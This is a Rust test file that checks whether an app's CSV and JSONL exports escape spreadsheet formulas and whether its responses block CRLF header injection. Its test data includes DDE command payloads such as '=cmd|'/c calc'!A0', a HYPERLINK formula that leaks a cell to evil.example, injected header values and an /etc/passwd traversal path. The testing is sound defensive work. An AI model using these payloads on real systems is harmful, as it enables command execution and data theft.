//! Files that are taken along: a spreadsheet runs nothing of what somebody stored, a line stays a line, and no name or
//! header is made of texts.

use serde_json::Value as Json;
use wardroom::services::jobs;

use crate::{
    harness::{Answer, House},
    jobs::{ada, add, done, listed},
};

/// What a spreadsheet would run, and what would break out of its cell or its line.
const FORMULAS: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=cmd|'/c calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "a\",=1+1",
    "a\n=1+1",
    "\"\"\",\"=1",
];

async fn evil(house: &House) -> Vec<String> {
    let mut lines = String::new();
    let mut ids = Vec::new();
    for (n, text) in FORMULAS.iter().enumerate() {
        let one_line = text.replace('\n', " ");
        let client: String = one_line.replace([',', ' '], "");
        let room = serde_json::json!({
            "id": format!("{one_line}{n}"), "app": one_line, "name": one_line, "description": text,
            "tags": [one_line.replace(',', "").chars().take(32).collect::<String>().trim()], "owner": client, "managers": [format!("{client}m")], "ext": text,
            "cover": "https://covers.example/=1",
        });
        ids.push(format!("{one_line}{n}"));
        lines += &format!("{room}\n");
    }
    house.import(lines).await;
    ids
}

/// Every cell of a table, with its column.
fn cells(answer: &Answer) -> Vec<(String, String)> {
    let text = answer.body.trim_start_matches('\u{FEFF}');
    let mut reader = csv::ReaderBuilder::new().flexible(false).from_reader(text.as_bytes());
    let heads: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let mut cells = Vec::new();
    for record in reader.records() {
        cells.extend(heads.iter().cloned().zip(record.unwrap().iter().map(str::to_owned)));
    }
    cells
}

fn is_harmless(cell: &str) -> bool {
    let starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
    cell.parse::<f64>().is_ok() || !cell.starts_with(starts)
}

#[tokio::test]
async fn no_cell_of_any_table_is_run_by_a_spreadsheet() {
    let house = House::open().await;
    let ids = evil(&house).await;
    let ids: Vec<&str> = ids.iter().map(String::as_str).collect();
    let job = jobs::plan(&ada(&house), listed(&ids), add(&[("tags", "seen")])).await.unwrap();
    let job = done(&house, &ada(&house), job).await;
    let all =
        ["description", "tags", "owner", "managers", "app", "ext", "cover"].map(|key| format!("columns[on][{key}]"));
    let mut view: Vec<(&str, &str)> = all.iter().map(|name| (name.as_str(), "on")).collect();
    view.push(("name", "all"));
    house.admin().call("/api/save_view", &view).await.done();
    let admin = house.admin();
    let mut guarded = 0;
    for path in ["/rooms.csv?view=1".to_owned(), "/rooms.csv".to_owned(), format!("/jobs/{}/export?format=csv", job.id)]
    {
        let answer = admin.get(&path).await;
        assert_eq!(answer.status, 200, "{path}: {}", answer.body);
        for (column, cell) in cells(&answer) {
            assert!(is_harmless(&cell), "{path}: {column} {cell:?}");
            guarded += usize::from(cell.starts_with('\''));
        }
    }
    let out = house.run("export --format csv --quiet");
    let text = String::from_utf8(out.stdout).unwrap();
    let answer = Answer { status: 200, headers: axum::http::HeaderMap::new(), body: text };
    for (column, cell) in cells(&answer) {
        assert!(is_harmless(&cell), "{column} {cell:?}");
        guarded += usize::from(cell.starts_with('\''));
    }
    assert!(guarded > 100, "they were there: {guarded}");
}

#[tokio::test]
async fn a_line_of_a_file_is_one_object_and_its_head_is_ours() {
    let house = House::open().await;
    evil(&house).await;
    house.nobody().call("/api/sign_in", &[("name", "a\r\nX-Evil: 1\n{\"id\":1}"), ("password", "x")]).await;
    let admin = house.admin();
    for (path, name) in [
        ("/rooms.jsonl?filename=evil%0d%0aX-Evil:%201", "rooms.jsonl"),
        ("/rooms.csv?q=%0d%0aX-Evil:%201", "rooms.csv"),
        ("/audit/export?actor=%0d%0aX-Evil:%201", "audit.jsonl"),
        ("/audit/export", "audit.jsonl"),
        ("/rooms.jsonl", "rooms.jsonl"),
    ] {
        let answer = admin.get(path).await;
        assert_eq!(answer.status, 200, "{path}");
        assert_eq!(answer.header("content-disposition"), format!("attachment; filename=\"{name}\""), "{path}");
        assert!(!answer.headers.contains_key("x-evil"), "{path}");
        if name.ends_with("jsonl") {
            for line in answer.body.lines() {
                assert!(serde_json::from_str::<Json>(line).is_ok_and(|json| json.is_object()), "{path}: {line}");
            }
        }
    }
    for id in ["1%0d%0aX-Evil:%201", "..%2f..%2fetc%2fpasswd", "1\"; x=\"", "-1", "99999999999999999999"] {
        let answer = admin.get(&format!("/jobs/{}/export", id.replace(['"', ' '], "%20"))).await;
        assert!(matches!(answer.status, 400 | 404), "{id}: {}", answer.status);
        assert!(!answer.headers.contains_key("x-evil") && !answer.headers.contains_key("content-disposition"), "{id}");
    }
}
